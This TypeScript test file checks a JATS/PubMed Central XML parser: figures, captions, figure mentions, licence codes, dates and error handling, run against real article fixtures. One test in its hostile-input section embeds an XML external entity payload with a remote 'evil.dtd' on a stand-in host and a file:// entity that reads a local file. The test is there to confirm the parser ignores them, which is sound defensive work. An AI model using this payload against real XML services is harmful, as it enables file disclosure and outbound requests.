import { strict as assert } from 'node:assert';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { fixturePaths } from '../config/paths';
import { JatsParseError, parseJats } from '../activities/parse/jats';
import { resolveMediaFile } from '../activities/parse/media';
import { ccCodeFromText, ccCodeFromType, ccCodeFromUrl } from '../activities/parse/metadata';
import { ArticleRecordSchema, type ArticleRecord, type FigureRecord } from '../activities/parse/records';

// Expected values below were read by hand from the fixture XML (shared/fixtures/real/nxml).
const nxmlDir = fixturePaths.nxml();
const fixtureFiles = fs
  .readdirSync(nxmlDir)
  .filter((f) => /\.(nxml|xml)$/.test(f))
  .sort();
const parsed = new Map<string, ArticleRecord>();

function fixtureFile(pmcid: string): string {
  const file = fixtureFiles.find((f) => f.startsWith(`${pmcid}_`) || f.startsWith(`${pmcid}.`));
  assert.ok(file, `no fixture for ${pmcid}`);
  return path.join(nxmlDir, file);
}

/** Parsed once per file; the suite stays fast on two cores. */
function article(pmcid: string): ArticleRecord {
  let record = parsed.get(pmcid);
  if (!record) {
    record = parseJats(fs.readFileSync(fixtureFile(pmcid)));
    parsed.set(pmcid, record);
  }
  return record;
}

function figure(record: ArticleRecord, id: string, graphicIndex = 0): FigureRecord {
  const found = record.figures.find((f) => f.id === id && f.graphicIndex === graphicIndex);
  assert.ok(found, `no figure ${id}/${graphicIndex}`);
  return found;
}

/** A minimal JATS article around a body, for rules no real fixture exercises. */
function jats(body: string, front = '<article-id pub-id-type="pmc">1</article-id>'): string {
  return `<article xmlns:xlink="http://www.w3.org/1999/xlink"><front><article-meta>${front}</article-meta></front><body>${body}</body></article>`;
}

describe('parseJats: every real fixture', () => {
  it('parses all 25 files, each with the PMCID of its file name and a record that fits the schema', () => {
    assert.equal(fixtureFiles.length, 25);
    for (const file of fixtureFiles) {
      const pmcid = (/^(PMC\d+)/.exec(file) as RegExpExecArray)[1] as string;
      const record = article(pmcid);
      assert.equal(record.pmcid, pmcid, file);
      ArticleRecordSchema.parse(record);
      // PMC wraps tex-math in a whole LaTeX preamble; it must never leak into text.
      assert.ok(!JSON.stringify(record).includes('documentclass'), `${file}: TeX preamble leaked`);
    }
  });

  it('parses the largest fixture (783 KB) in well under 100 ms of CPU', () => {
    const xml = fs.readFileSync(fixtureFile('PMC12505609'));
    parseJats(xml); // JIT warm-up
    let best = Infinity;
    // CPU time, best of five: the machine is shared, and this bounds the parser, not the neighbours
    for (let i = 0; i < 5; i++) {
      const start = process.cpuUsage();
      parseJats(xml);
      const used = process.cpuUsage(start);
      best = Math.min(best, (used.user + used.system) / 1000);
    }
    assert.ok(best < 100, `took ${best.toFixed(1)} ms`);
  });
});

describe('parseJats: figures', () => {
  it('PMC7159286 (Lancet): Figure 3 with two graphics gives two records sharing one caption', () => {
    const r = article('PMC7159286');
    assert.deepEqual(
      r.figures.map((f) => [f.id, f.graphicHref, f.graphicIndex]),
      [
        ['fig1', 'gr1_lrg', 0],
        ['fig2', 'gr2_lrg', 0],
        ['fig3', 'gr3a_lrg', 0],
        ['fig3', 'gr3b_lrg', 1],
        ['fig4', 'gr4_lrg', 0],
      ],
    );
    assert.deepEqual(r.counts, {
      figures: 4,
      graphics: 5,
      tableGraphics: 0,
      formulaGraphics: 0,
      inlineGraphics: 0,
      supplementary: 1,
    });
    const [a, b] = [figure(r, 'fig3', 0), figure(r, 'fig3', 1)];
    assert.equal(a.caption, b.caption);
    assert.equal(a.label, 'Figure 3');
    assert.ok(
      a.caption.startsWith(
        'Phylogenetic trees of genetic sequences (A) Amplicon fragments of RNA-dependent RNA polymerase',
      ),
    );
    assert.equal(
      figure(r, 'fig2').caption,
      'Representative images of the thoracic CT scans showing multifocal ground-glass changes in the lungs of patient 1 (A), patient 2 (B), patient 3 (C), and patient 5 (D)',
    );
    // Two caption paragraphs, one space between them; &#x02013; decoded.
    assert.equal(
      figure(r, 'fig1').caption,
      'Chronology of symptom onset of the Shenzhen family cluster and their contacts in Wuhan Dates filled in red are the dates on which ' +
        'patients 1\u20136 had close contacts with their relatives (relatives 1\u20135). Dates filled in yellow are the dates on which patients ' +
        '3\u20136 stayed with patient 7. The boxes with an internal red cross are the dates on which patients 1 and 3 or relatives 1, 2, and 3 ' +
        'had stayed overnight (white boxes) at or had visited (blue boxes) the hospital in which relative 1 was admitted for febrile pneumonia. ' +
        'The information of relatives 1\u20135 was provided by patient 3. No virological data were available.',
    );
    assert.equal(figure(r, 'fig1').captionTitle, null);
  });

  it('PMC7159286: hrefs without extension resolve to the .jpg files of the package, not the .gif thumbnail', () => {
    const files = fs.readdirSync(path.join(fixturePaths.images(), 'PMC7159286'));
    assert.ok(files.includes('gr1_lrg.gif'));
    for (const f of article('PMC7159286').figures)
      assert.equal(resolveMediaFile(f.graphicHref, files), `${f.graphicHref}.jpg`);
  });

  it('PMC7289599 (eLife): nested child-figs are their own records; the parent caption keeps only its own text', () => {
    const r = article('PMC7289599');
    assert.deepEqual(
      r.figures.map((f) => f.id),
      ['fig1', 'fig1s1', 'fig1s2', 'fig1s3', 'fig2', 'fig2s1', 'fig3', 'fig4', 'fig4s1', 'fig4s2', 'fig4s3'],
    );
    const parent = figure(r, 'fig1');
    const child = figure(r, 'fig1s1');
    assert.equal(parent.label, 'Figure 1.');
    assert.equal(parent.captionTitle, 'Genome-wide binding patterns of mouse KRAB-ZFPs.');
    assert.ok(
      parent.caption.startsWith(
        'Genome-wide binding patterns of mouse KRAB-ZFPs. (A) Probability heatmap of KRAB-ZFP binding to TEs.',
      ),
    );
    assert.ok(
      parent.caption.endsWith(
        'with amino acid differences relative to the five consensus fingers highlighted in white.',
      ),
    );
    assert.equal(child.label, 'Figure 1\u2014figure supplement 1.');
    assert.equal(child.captionTitle, 'ES cell-specific expression of KRAB-ZFP gene clusters.');
    assert.equal(child.graphicHref, 'elife-56337-fig1-figsupp1');
    assert.ok(child.caption.endsWith('The scale bar at the bottom indicates amino acid substitutions per site.'));
    for (const foreign of [
      'ES cell-specific expression',
      'figure supplement',
      'KRAB-ZFP expression in 40 mouse tissues',
    ]) {
      assert.ok(!parent.caption.includes(foreign), `parent caption absorbed "${foreign}"`);
    }
    assert.equal(r.counts.supplementary, 11);
  });

  it('PMC13125388 (2026 cloud XML): <alternatives> yields the .jpg image, never the .gif thumb', () => {
    const r = article('PMC13125388');
    assert.deepEqual(
      r.figures.map((f) => [f.id, f.label, f.graphicHref, f.graphicIndex]),
      [
        ['rcm70073-fig-0001', 'FIGURE 1', 'RCM-40-e70073-g003.jpg', 0],
        ['rcm70073-fig-0002', 'FIGURE 2', 'RCM-40-e70073-g001.jpg', 0],
        ['rcm70073-fig-0003', 'FIGURE 3', 'RCM-40-e70073-g002.jpg', 0],
        ['rcm70073-fig-0004', 'FIGURE 4', 'RCM-40-e70073-g004.jpg', 0],
        ['rcm70073-fig-0005', 'FIGURE 5', 'RCM-40-e70073-g005.jpg', 0],
      ],
    );
    assert.equal(r.counts.graphics, 10);
    assert.equal(r.counts.figures, 5);
    assert.equal(
      figure(r, 'rcm70073-fig-0001').caption,
      'Oligo\u2010homogalacturonan structure (A) represented in a DP5DM4 methylated species with its simplified (B) SNFG representation that shows the possible methylation positions.',
    );
  });

  it('PMC3585041 (PLOS NTD): table graphics are counted, not turned into figures', () => {
    const r = article('PMC3585041');
    assert.deepEqual(r.counts, {
      figures: 1,
      graphics: 6,
      tableGraphics: 5,
      formulaGraphics: 0,
      inlineGraphics: 0,
      supplementary: 0,
    });
    assert.equal(r.figures.length, 1);
    const f = figure(r, 'pntd-0002065-g001');
    assert.equal(f.graphicHref, 'pntd.0002065.g001');
    assert.equal(f.captionTitle, 'Location of the study areas.');
    assert.equal(
      f.caption,
      'Location of the study areas. Figure 1 shows the map of the Zamb\u00e9zia Province, Mozambique indicating the location of the study areas. ' +
        'In 2007, the collection points for the baseline study were in 5 districts namely Maganja da Costa, Mocuba, Mopeia, Morrumbala and ' +
        'Nicoadala (black rectangle). In 2010, the study was carried out in different locations of the Mopeia (red circle) and in Nicoadala ' +
        'districts. Three perennial rivers that drain the Mopeia district namely Zambeze, Cuacua and Chire Rivers are highlighted in blue.',
    );
  });

  it('formula and inline graphics are counted apart (PMC1790863, PMC4222443)', () => {
    assert.deepEqual(article('PMC1790863').counts, {
      figures: 3,
      graphics: 27,
      tableGraphics: 0,
      formulaGraphics: 24,
      inlineGraphics: 0,
      supplementary: 0,
    });
    assert.deepEqual(article('PMC4222443').counts, {
      figures: 9,
      graphics: 40,
      tableGraphics: 0,
      formulaGraphics: 31,
      inlineGraphics: 28,
      supplementary: 0,
    });
    assert.equal(article('PMC1790863').figures.length, 3);
  });

  it("PMC12491691: a graphical abstract's fig is a record with its role, captioned by the abstract's text", () => {
    const r = article('PMC12491691');
    const f = figure(r, 'undfig1');
    const graphical = r.abstracts.find((a) => a.type === 'graphical');
    assert.deepEqual([f.role, f.label, f.captionTitle, f.graphicHref], ['graphical-abstract', null, null, 'ga1']);
    assert.equal(f.caption, graphical?.sections[0]?.text);
    assert.match(f.caption, /^This review delineates how metal elements modulate biological activities/);
    assert.ok(r.figures.filter((x) => x !== f).every((x) => x.role === 'figure'));
    // PMC3062852's graphical abstract ("Research highlights") is text only: no image, no record.
    assert.ok(article('PMC3062852').figures.every((x) => x.role === 'figure'));
  });

  it('MathML in captions is read as its text; in <alternatives> MathML wins over the TeX copy', () => {
    const pnas = figure(article('PMC13320716'), 'fig03');
    assert.ok(pnas.caption.includes('a rare PRDM9 mutant arises with frequency m^0 = 0.01 (Top row)'));
    // the markup is kept as written beside the linear text
    assert.ok(pnas.mathml.length > 0);
    assert.ok(pnas.mathml.every((m) => m.startsWith('<mml:math') && m.endsWith('</mml:math>')));
    assert.ok(pnas.mathml.some((m) => m.includes('<mml:msup>')));
    const springer = figure(article('PMC7417471'), 'Fig6'); // tex-math precedes mml:math there
    assert.ok(springer.caption.includes('coated with Laccase in a 5 mmol L^-1[Fe(')); // MathML read, not its TeX copy
    assert.ok(!springer.caption.includes('\\text'));
  });

  it('fig-group members are separate figures; a fig without graphic yields nothing; thumbnails lose', () => {
    const r = parseJats(
      jats(`<sec><fig-group id="g"><caption><p>Group.</p></caption>
      <fig id="g1"><label>Figure 3A</label><caption><p>Part A.</p></caption><graphic xlink:href="g1"/></fig>
      <fig id="g2"><label>Figure 3B</label><caption><p>Part B.</p></caption>
        <alternatives><graphic specific-use="thumb" xlink:href="g2.jpg"/><graphic xlink:href="g2.tif"/></alternatives></fig>
      </fig-group><fig id="empty"><caption><p>No image.</p></caption></fig></sec>`),
    );
    assert.deepEqual(
      r.figures.map((f) => [f.id, f.label, f.caption, f.graphicHref]),
      [
        ['g1', 'Figure 3A', 'Part A.', 'g1'],
        ['g2', 'Figure 3B', 'Part B.', 'g2.tif'],
      ],
    );
    assert.equal(r.counts.figures, 2);
  });
});

describe('parseJats: mentions', () => {
  it('a real paragraph citing two figures is credited to both, each marking only its own citation (PMC7302504)', () => {
    const r = article('PMC7302504');
    const start = 'The enteric CH4 intensity was similar between different scenarios (';
    const cited = (id: string) => figure(r, id).mentions.filter((m) => m.startsWith(start));
    const [fig2] = cited('pone.0234687.g002');
    const [fig3] = cited('pone.0234687.g003');
    assert.ok(fig2?.startsWith(`${start}[[Fig 2]]), showing the greatest sensitivity index`));
    assert.ok(fig2.includes('may change between 5.3 and 6.2% (Fig 3).'));
    assert.ok(fig3?.startsWith(`${start}Fig 2), showing the greatest sensitivity index`));
    assert.ok(fig3.includes('may change between 5.3 and 6.2% ([[Fig 3]]).'));
    const unmarked = (m: string) => m.replace(/\[\[|\]\]/g, '');
    assert.equal(unmarked(fig2), unmarked(fig3));
    assert.ok(r.fullText.split('\n\n').includes(unmarked(fig2)));
  });

  it('PMC4222443: a fig placed inside the citing <p> does not leak its caption into the paragraph', () => {
    const r = article('PMC4222443');
    const paragraph = (figures: string) =>
      `In Figures ${figures}, a comparison in terms of correlation (averaged on the leave-one-out folds) between the investigated clustering ` +
      'approaches is depicted reporting the traditional p-Median, Probabilistic D-Clustering, k-Means, SVTQ, Relational k-Means and the ' +
      'proposed Consensus p-Median. For the Consensus p-Median two series are reported, i.e. Consensus p-Median (g-d) and Consensus p-Median (d-g).';
    assert.deepEqual(figure(r, 'Fig3').mentions, [paragraph('[[3]] and 4')]);
    assert.deepEqual(figure(r, 'Fig4').mentions, [paragraph('3 and [[4]]')]);
    assert.ok(r.fullText.split('\n\n').includes(paragraph('3 and 4')));
    assert.ok(!r.fullText.includes('Correlation indices for the Sherf dataset'));
  });

  it('xrefs nested in <italic>, rid lists and repeats are credited once per paragraph; caption xrefs are not mentions', () => {
    const r = parseJats(
      jats(`<sec><title>Results</title>
      <p>Both panels (<italic><xref ref-type="fig" rid="f1">Fig. 1</xref></italic>) agree.</p>
      <p>See <xref ref-type="fig" rid="f1 f2">Figs 1 and 2</xref>; again <bold><xref ref-type="fig" rid="f2">Fig. 2</xref></bold>.</p>
      <p>Only a table: <xref ref-type="table" rid="t1">Table 1</xref>.</p>
      <p>Both panels (<italic><xref ref-type="fig" rid="f1">Fig. 1</xref></italic>) agree.</p>
      <fig id="f1"><label>Figure 1</label><caption><title>One.</title><p>Unlike <xref ref-type="fig" rid="f2">Fig. 2</xref>.</p></caption><graphic xlink:href="f1"/></fig>
      <fig id="f2"><label>Figure 2</label><caption><p>Two.</p></caption><graphic xlink:href="f2"/></fig></sec>`),
    );
    assert.deepEqual(figure(r, 'f1').mentions, [
      'Both panels ([[Fig. 1]]) agree.',
      'See [[Figs 1 and 2]]; again Fig. 2.',
    ]);
    assert.deepEqual(figure(r, 'f2').mentions, ['See [[Figs 1 and 2]]; again [[Fig. 2]].']);
    assert.equal(figure(r, 'f1').caption, 'One. Unlike Fig. 2.');
    assert.equal(
      r.fullText,
      'Results\n\nBoth panels (Fig. 1) agree.\n\nSee Figs 1 and 2; again Fig. 2.\n\nOnly a table: Table 1.\n\nBoth panels (Fig. 1) agree.',
    );
  });
});

describe('parseJats: citation marks', () => {
  it('spaces move outside the marks, empty xrefs are not marked, nested xrefs are one citation, literal brackets never touch a mark', () => {
    const r = parseJats(
      jats(`<sec><p>See [<xref ref-type="fig" rid="f1"> Fig. 1 </xref>] and <xref ref-type="fig" rid="f1"/> [[7], x]
      <xref ref-type="fig" rid="f1"><xref ref-type="fig" rid="f2">Fig. 1/2</xref></xref>.</p>
      <fig id="f1"><caption><p>One.</p></caption><graphic xlink:href="a"/></fig><fig id="f2"><caption><p>Two.</p></caption><graphic xlink:href="b"/></fig></sec>`),
    );
    assert.equal(r.fullText, 'See [ Fig. 1 ] and [[7], x] Fig. 1/2.');
    assert.deepEqual(figure(r, 'f1').mentions, ['See [ [[Fig. 1]] ] and [ [7], x] [[Fig. 1/2]].']);
    assert.deepEqual(figure(r, 'f2').mentions, ['See [ Fig. 1 ] and [ [7], x] [[Fig. 1/2]].']);
  });

  it('a citation inside inline markup or split over text nodes and entities is marked whole', () => {
    const r = parseJats(
      jats(`<sec><p>(<xref ref-type="fig" rid="f1"><bold>Figure&#x000a0;1</bold>A&#x02013;C</xref>)&#x000a0;shows it.</p>
      <fig id="f1"><caption><p>One.</p></caption><graphic xlink:href="a"/></fig></sec>`),
    );
    assert.deepEqual(figure(r, 'f1').mentions, ['([[Figure 1A\u2013C]]) shows it.']);
  });
});

describe('parseJats: article metadata', () => {
  it('PMC7159286: ids, structured abstract, epub date, and a non-CC licence kept as text', () => {
    const r = article('PMC7159286');
    assert.deepEqual([r.pmid, r.doi, r.version], ['31986261', '10.1016/S0140-6736(20)30154-9', null]);
    assert.deepEqual(
      r.abstracts[0]?.sections.map((s) => s.label),
      ['Background', 'Methods', 'Findings', 'Interpretation', 'Funding'],
    );
    assert.ok(
      r.abstract?.startsWith(
        'Background: An ongoing outbreak of pneumonia associated with a novel coronavirus was reported in Wuhan city',
      ),
    );
    assert.ok(r.abstract?.includes('. Methods: In this study, we report'));
    assert.equal(r.pubDate, '2020-01-24'); // epub, not the ppub season "15-21 February"
    assert.equal(r.license.url, null);
    assert.equal(r.license.code, null);
    assert.ok(r.license.text?.startsWith('Since January 2020 Elsevier has created a COVID-19 resource centre'));
    assert.deepEqual(r.journal, {
      title: 'Lancet (London, England)',
      isoAbbrev: 'Lancet',
      issn: '1474-547X',
      publisher: 'Elsevier Ltd.',
    });
  });

  it('PMC3585041: the two abstracts stay apart and the main one is the untyped abstract', () => {
    const r = article('PMC3585041');
    assert.deepEqual(
      r.abstracts.map((a) => a.type),
      [null, 'summary'],
    );
    assert.deepEqual(
      r.abstracts.map((a) => a.sections.map((s) => s.label)),
      [[null], [null]],
    );
    assert.ok(
      r.abstracts[0]?.sections[0]?.text.startsWith('Rift Valley fever (RVF) is endemic in most parts of Africa'),
    );
    assert.ok(r.abstracts[1]?.sections[0]?.text.startsWith('Rift Valley fever (RVF) is a mosquito-borne disease'));
    assert.equal(r.abstract, r.abstracts[0]?.sections[0]?.text);
    assert.ok(!JSON.stringify(r.abstracts).includes('Author Summary'));
    assert.deepEqual(r.license, {
      url: null,
      code: 'CC BY',
      text: 'This is an open-access article distributed under the terms of the Creative Commons Attribution License, which permits unrestricted use, distribution, and reproduction in any medium, provided the original author and source are credited.',
    });
  });

  it('titles with inline markup are flattened in reading order', () => {
    assert.equal(
      article('PMC3460867').title,
      'MmPPOX Inhibits Mycobacterium tuberculosis Lipolytic Enzymes Belonging to the Hormone-Sensitive Lipase Family and Alters Mycobacterial Growth',
    );
    assert.equal(
      article('PMC3357053').title,
      'Transcription factor OsHsfC1b regulates salt tolerance and development in Oryza sativa ssp. japonica',
    );
    assert.equal(
      parseJats(
        jats(
          '',
          '<title-group><article-title>Role of <italic>p53</italic> in cancer<xref ref-type="fn" rid="n1">*</xref></article-title></title-group>',
        ),
      ).title,
      'Role of p53 in cancer',
    );
  });

  it('keywords come from every kwd-group; subjects from every subj-group', () => {
    const r = article('PMC7289599');
    assert.deepEqual(r.keywords, [
      'KRAB-ZFP',
      'transposable elements',
      'retrotransposons',
      'evolution',
      'chromatin',
      'development',
      'Mouse',
    ]);
    assert.deepEqual(r.subjects, ['Research Article', 'Chromosomes and Gene Expression', 'Genetics and Genomics']);
    assert.deepEqual(article('PMC6398430').keywords, [
      'Corvus corone',
      'crows',
      'fission',
      'fusion dynamics',
      'group size',
      'population structure',
    ]);
  });

  it('pubDate keeps the precision given and prefers electronic publication', () => {
    assert.equal(article('PMC3062852').pubDate, '2011-05'); // ppub with month only
    assert.equal(article('PMC6398430').pubDate, '2018-12-08'); // <day>08</day>
    assert.equal(article('PMC13320716').pubDate, '2026-06-25'); // date-type="pub" electronic; an empty epub is skipped
    assert.equal(article('PMC7289599').pubDate, '2020-06-01');
    assert.equal(article('PMC13125388').pubDate, '2026-04-28'); // untyped <pub-date>
    const yearOnly =
      '<pub-date pub-type="collection"><year>2020</year></pub-date><pub-date pub-type="pmc-release"><day>3</day><month>6</month><year>2020</year></pub-date>';
    assert.equal(parseJats(jats('', yearOnly)).pubDate, '2020');
  });

  it('PMCIDs: Europe PMC "pmcid" ids get the PMC prefix; pmcid-ver gives the version; the hint is a fallback', () => {
    assert.equal(article('PMC12491691').pmcid, 'PMC12491691'); // <article-id pub-id-type="pmcid">12491691
    assert.equal(article('PMC12491691').pmid, null);
    assert.deepEqual([article('PMC13254695').pmcid, article('PMC13254695').version], ['PMC13254695', 1]);
    assert.equal(parseJats(jats('', ''), { pmcidHint: '7159286' }).pmcid, 'PMC7159286');
    assert.equal(parseJats(jats(''), { pmcidHint: 'PMC999' }).pmcid, 'PMC1');
  });

  it('licence codes come from the URL first, then the type, then the prose', () => {
    const code = (pmcid: string) => [article(pmcid).license.code, article(pmcid).license.url];
    assert.deepEqual(code('PMC13125388'), ['CC BY-NC-ND', 'https://creativecommons.org/licenses/by-nc-nd/4.0/']); // ext-link in license-p
    assert.deepEqual(code('PMC12505609'), ['CC BY-NC-ND', 'https://creativecommons.org/licenses/by-nc-nd/4.0/']); // ali:license_ref
    assert.deepEqual(code('PMC2599765'), [null, 'http://creativecommons.org/publicdomain/mark/1.0/']); // public domain mark
    assert.deepEqual(code('PMC7289599'), ['CC0', 'http://creativecommons.org/publicdomain/zero/1.0/']);
    assert.deepEqual(code('PMC3357053'), ['CC BY-NC', 'http://creativecommons.org/licenses/by-nc/3.0/']);
    assert.deepEqual(code('PMC4222443'), ['CC BY', 'http://creativecommons.org/licenses/by/2.0']); // the CC0 data waiver link comes second
    assert.deepEqual(code('PMC3062852'), [
      null,
      'http://www.elsevier.com/wps/find/authorsview.authors/supplementalterms1.0',
    ]);
    const copyrightOnly = article('PMC1790863').license; // no <license>: code stays null
    assert.equal(copyrightOnly.code, null);
    assert.ok(
      copyrightOnly.text?.startsWith(
        'Tenaillon et al. This is an open-access article distributed under the terms of the Creative Commons',
      ),
    );
    assert.equal(
      ccCodeFromText(
        'licensed under a Creative Commons Attribution-NonCommercial-NoDerivatives 4.0 International License',
      ),
      'CC BY-NC-ND',
    );
    assert.equal(
      ccCodeFromText('the Creative Commons Attribution License, which permits unrestricted non-commercial use'),
      'CC BY',
    );
    assert.equal(ccCodeFromText('distributed under the CC BY-SA licence'), 'CC BY-SA');
    assert.equal(ccCodeFromText('Publication of EHP lies in the public domain'), undefined);
    assert.equal(ccCodeFromType('ccbyncndlicense'), 'CC BY-NC-ND');
    assert.equal(ccCodeFromUrl('https://creativecommons.org/licenses/by-nc-sa/4.0/'), 'CC BY-NC-SA');
  });
});

describe('parseJats: malformed and hostile input', () => {
  it('a real file cut in half throws JatsParseError naming the missing close tag and the line', () => {
    const whole = fs.readFileSync(fixtureFile('PMC7159286'));
    const half = whole.subarray(0, whole.length >> 1);
    assert.throws(
      () => parseJats(half),
      (err: unknown) => {
        assert.ok(err instanceof JatsParseError);
        assert.match(
          err.message,
          /^truncated XML: expected <\/[\w:-]+> before the end of input \(line \d+, column \d+\)$/,
        );
        assert.equal(err.line, half.toString('utf8').split('\n').length);
        return true;
      },
    );
  });

  it('mis-nested tags throw JatsParseError with what was expected and what was found', () => {
    const xml =
      '<article>\n<front><article-meta><title-group><article-title>A <italic>b</article-title></title-group></article-meta></front></article>';
    assert.throws(
      () => parseJats(xml),
      (err: unknown) => {
        assert.ok(err instanceof JatsParseError);
        assert.match(
          err.message,
          /^mis-nested XML: expected <\/italic> but found <\/article-title> \(line 2, column \d+\)$/,
        );
        assert.equal(err.line, 2);
        return true;
      },
    );
    assert.throws(
      () => parseJats('<PubmedArticleSet><PubmedArticle/></PubmedArticleSet>'),
      /expected an <article> element, found <PubmedArticleSet>/,
    );
    assert.throws(() => parseJats(''), JatsParseError);
  });

  it('a stray control character or bad character reference does not sink the article', () => {
    const r = parseJats(jats('<sec><p>Before\u000bafter &#0;end.</p></sec>'));
    assert.ok(r.fullText.startsWith('Before after'));
  });

  it('a DOCTYPE with external entities is skipped: nothing is fetched, internal literals still expand', () => {
    const secret = path.join(nxmlDir, '..', 'PROVENANCE.md');
    const xml = `<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE article PUBLIC "-//NLM//DTD JATS (Z39.96) Journal Archiving and Interchange DTD v1.0 20120330//EN" "http://jats.nlm.nih.gov/archiving/1.0/JATS-archivearticle1.dtd" [
  <!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd">
  %remote;
  <!ENTITY leak SYSTEM "file://${secret}">
  <!ENTITY journal "Local &#x0026; Journal">
]>
<article><front><journal-meta><journal-title-group><journal-title>&journal;</journal-title></journal-title-group></journal-meta>
<article-meta><article-id pub-id-type="pmc">42</article-id><title-group><article-title>Before&leak;After</article-title></title-group></article-meta></front></article>`;
    const r = parseJats(xml);
    assert.equal(r.title, 'BeforeAfter');
    assert.equal(r.journal.title, 'Local & Journal');
    assert.equal(r.pmcid, 'PMC42');
  });

  it('HTML named entities are mapped and unknown ones dropped, on a real article', () => {
    const original = fs.readFileSync(fixtureFile('PMC7159286'), 'utf8');
    const edited = original
      .replaceAll('&#x02013;', '&ndash;')
      .replace(
        'No virological data were available.',
        'No virological&nbsp;data were&notDefinedAnywhere; available.&hellip;',
      );
    const caption = figure(parseJats(edited), 'fig1').caption;
    assert.equal(caption, figure(article('PMC7159286'), 'fig1').caption.replace(/available\.$/, 'available.\u2026'));
  });
});
